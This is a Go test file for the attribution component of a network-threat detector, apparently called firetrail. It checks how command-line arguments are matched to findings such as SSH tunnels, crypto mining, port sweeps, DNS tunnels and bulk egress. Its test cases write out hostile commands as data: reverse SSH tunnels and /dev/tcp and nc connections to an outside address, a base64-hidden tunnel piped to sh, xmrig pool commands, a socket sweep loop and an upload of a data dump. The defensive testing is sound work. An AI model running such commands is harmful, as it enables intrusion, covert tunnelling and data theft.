package attribute

import (
	"encoding/base64"
	"fmt"
	"net/netip"
	"slices"
	"testing"

	"firetrail"
)

func ip(s string) netip.Addr { return netip.MustParseAddr(s) }

// found makes a finding with one burst at each time.
func found(detector, src, dst string, port int64, at ...int64) firetrail.Finding {
	f := firetrail.Finding{ID: fmt.Sprintf("f-%s-%s-%s-%d", detector, src, dst, port), Detector: detector, SrcIP: ip(src), Dst: dst, DstPort: port, Severity: firetrail.SeverityHigh,
		Start: firetrail.Absent, End: firetrail.Absent}
	for _, t := range at {
		f.Bursts = append(f.Bursts, firetrail.Interval{Start: t, End: t + second})
	}
	if len(at) > 0 {
		f.Start, f.End = at[0], at[len(at)-1]+second
		f.Evidence = []firetrail.Evidence{{Origin: firetrail.Origin{Source: "s1", Line: 1}, Time: f.Start}}
	}
	f.Count = int64(len(at))
	return f
}

func TestMatch(t *testing.T) {
	hidden := base64.StdEncoding.EncodeToString([]byte("ssh -fN -R 8080:localhost:22 u@203.0.113.9"))
	named := found(mining, "10.20.3.7", "203.0.113.9", 3333, 0)
	named.Host = "eu.pool.example"
	sweep := found(internalSweep, "10.20.3.7", "10.20.4.0/24", 22, 0)
	for i := range 20 {
		sweep.Targets = append(sweep.Targets, firetrail.Target{IP: ip(fmt.Sprintf("10.20.4.%d", i+1)), Port: 22})
	}
	tunnel := found(sshTunnel, "10.20.3.7", "203.0.113.9", 443, 0)
	search := found(policyBurst, "10.20.3.7", "", firetrail.Absent, 0)
	for i, port := range []int64{21, 22, 25, 8080, 993} {
		search.Targets = append(search.Targets, firetrail.Target{IP: ip(fmt.Sprintf("203.0.113.%d", i+1)), Port: port})
	}
	zone, hub, bucket := found(dnsTunnel, "10.20.3.7", "10.20.0.2", 53, 0), found(bulkEgress, "10.20.3.7", "198.51.100.20", 443, 0), found(bulkEgress, "10.20.3.7", "198.51.100.21", 443, 0)
	zone.Host, hub.Host, bucket.Host = "kv.example", "huggingface.co", "b.s3.amazonaws.com"
	for _, c := range []struct {
		name, args string
		f          firetrail.Finding
		want       float64
	}{
		{"peer by address", "ssh -R 8080:localhost:22 user@203.0.113.9 -p 443", tunnel, contentPeer},
		{"json command", `{"command":"ssh -N user@203.0.113.9"}`, tunnel, contentPeer},
		{"json argv", `{"cmd":["ssh","-R","8080:localhost:22","203.0.113.9"]}`, tunnel, contentPeer},
		{"json in json", `{"arguments":"{\"command\":\"nc 203.0.113.9 443\"}"}`, tunnel, contentPeer},
		{"python tuple", `s.connect(("203.0.113.9",443))`, tunnel, contentPeer},
		{"bash socket", `exec 3<>/dev/tcp/203.0.113.9/443`, tunnel, contentPeer},
		{"base64", "echo " + hidden + " | base64 -d | sh", tunnel, contentPeer},
		{"IPv4 within a word is no peer", "cat notes-203.0.113.90.txt", tunnel, contentOther},
		{"longer address is another", "ping 203.0.113.99", tunnel, contentOther},
		{"forwarding without a peer", "ssh -fNR 8080:localhost:22 $JUMP", tunnel, contentTool},
		{"forwarding to a name the log does not know", "ssh -R 8080:localhost:22 me@jump.example", tunnel, contentMaybe},
		{"forwarding to another address", "ssh -R 8080:localhost:22 me@198.51.100.4", tunnel, contentOther},
		{"plain ssh", "ssh -r $HOST ls", tunnel, contentOther},
		{"option value is no option", "ssh -oUserKnownHostsFile=/dev/null $HOST", tunnel, contentOther},
		{"remote forward by option", "ssh -oRemoteForward=8080 $HOST", tunnel, contentTool},
		{"port of everybody", "curl localhost:443", tunnel, contentCommon},
		{"miner", "nohup ./xmrig -o $POOL &", named, contentTool},
		{"miner with the port and a pool the log does not know", "xmrig -o stratum+tcp://xmr.example:3333", func() firetrail.Finding { f := named; f.Host = ""; return f }(), contentBoth},
		{"miner with another port", "xmrig -o stratum+tcp://xmr.example:4444", func() firetrail.Finding { f := named; f.Host = ""; return f }(), contentMaybe},
		{"pool by name", "./worker stratum+tcp://eu.pool.example:3333", named, contentPeer},
		{"parent domain", "dig pool.example", named, contentTool},
		{"label boundary", "dig notpool.example", named, contentOther},
		{"port of a URL", "curl https://files.example:3333/x", named, contentPort},
		{"a scanner is no proof of refusals", "nmap -sn $NET", found(policyBurst, "10.20.3.7", "198.51.100.20", 443, 0), contentCommon},
		{"everybody copies files", "rsync -a $SRC $DST", found(bulkEgress, "10.20.3.7", "198.51.100.20", 873, 0), contentCommon},
		{"own port", "python serve.py --port 3333", named, contentPort},
		{"sweep by network", "nmap -p 22 10.20.4.0/24", sweep, contentPeer},
		{"sweep by range", "nmap 10.20.4.1-254", sweep, contentPeer},
		{"sweep of everything", "masscan 10.0.0.0/8", sweep, contentTool},
		{"sweep by a loop over sockets", "for i in $(seq 1 60); do (echo >/dev/tcp/10.20.4.$i/22) 2>/dev/null; done", sweep, contentPeer},
		{"sweep by a format of addresses", `requests.get(f"http://10.20.4.{i}:22/")`, sweep, contentPeer},
		{"sweep of another network", "nmap 10.30.0.0/24", sweep, contentOther},
		{"one target of many", "ping 10.20.4.7", sweep, contentTool},
		{"a list of the ports of a search", "python probe.py --ports 21,22,25,8080", search, contentPort},
		{"a list of other ports", "python probe.py --ports 5000,5001,5002", search, contentOther},
		{"a list ends where the ports end", "python probe.py -p 22,25 --rate 8080", search, contentOther},
		{"the zone of a tunnel", "./client --domain=t.kv.example", zone, contentPeer},
		{"the service that a command means", "hf upload me/dump /data", hub, contentPeer},
		{"one of its hosts", "aws s3 cp a s3://b/", bucket, contentTool},
		{"no arguments", "", tunnel, contentSilent},
		{"unrelated", "pip install torch", tunnel, contentOther},
	} {
		t.Run(c.name, func(t *testing.T) {
			say := readArgs(c.args)
			if got, why := say.match(&c.f); got != c.want {
				t.Errorf("weight %g (%s), want %g; read %+v", got, why, c.want, say)
			}
		})
	}
}

func TestLeftRunning(t *testing.T) {
	for args, want := range map[string]bool{
		"nohup ./job > log 2>&1":         true,
		"./job &":                        true,
		"(sleep 60; ./job &) ; true":     true,
		"screen -dmS x ./job":            true,
		"tmux new-session -d ./job":      true,
		"ssh -f -N -R 1:2:3 h.example":   true,
		"docker run -d image":            true,
		"make && make install":           false,
		"cmd 2>&1 | tee log":             false,
		"cmd &> log":                     false,
		"curl 'http://a.example/?x=1&y'": false,
		"echo look at this":              false,
		"ssh h.example ls":               false,
	} {
		if got := readArgs(args).background; got != want {
			t.Errorf("%q: background %v, want %v", args, got, want)
		}
	}
}

func TestHostNames(t *testing.T) {
	for name, want := range map[string]bool{"a.example": true, "x-1.pool.example": true, "10.0.0.1": false, "1.2": false, "a..b": false, "localhost": false, "a_b.example": true} {
		if hostName(name) != want {
			t.Errorf("hostName(%q) = %v", name, !want)
		}
	}
	if covers("example", "a.example") || !covers("b.example", "a.b.example") || covers("b.example", "ab.example") {
		t.Error("covers must keep to labels and never take a top-level domain")
	}
}

func FuzzReadArgs(f *testing.F) {
	for _, s := range []string{"ssh -R 8080:localhost:22 u@203.0.113.9", `{"a":["b",1,{"c":"d"}]}`, "nmap 10.0.0.1-10.0.0.9 -p1-100", "[::1]:80 ::1/64 2001:db8::/32", "YWFhYWFhYWFhYWFhYWFhYWFhYWE="} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		c := readArgs(s)
		for _, p := range c.ports {
			if p < 1 || p > 65535 {
				t.Errorf("port %d", p)
			}
		}
		for _, r := range c.ranges {
			if r[0].Compare(r[1]) > 0 {
				t.Errorf("range %v", r)
			}
		}
		again := readArgs(s)
		if !slices.Equal(c.addrs, again.addrs) || !slices.Equal(c.names, again.names) {
			t.Error("read twice, two answers")
		}
	})
}
